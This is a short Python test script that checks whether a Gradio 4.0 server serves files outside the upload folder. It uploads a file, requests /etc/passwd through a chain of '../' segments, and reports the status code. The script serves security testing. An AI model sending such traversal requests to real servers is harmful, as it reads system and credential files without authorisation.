"""A path that climbs by ``..`` out of the folder of an upload is followed: anybody gets any file of the machine.

On Gradio 4.0. A server MUST give out no file that is not for the client (file/download/outside,
security/server/paths).
"""

from __future__ import annotations

from server import Server, main


def finding(server: Server) -> tuple[bool, str]:
    folder = server.upload("a.txt", b"content").rpartition("/")[0]
    got = server.get(f"/file={folder}/{'../' * 12}etc/passwd")
    return got.status == 200, f"a download of /etc/passwd was answered {got.status}"


if __name__ == "__main__":
    main(finding)
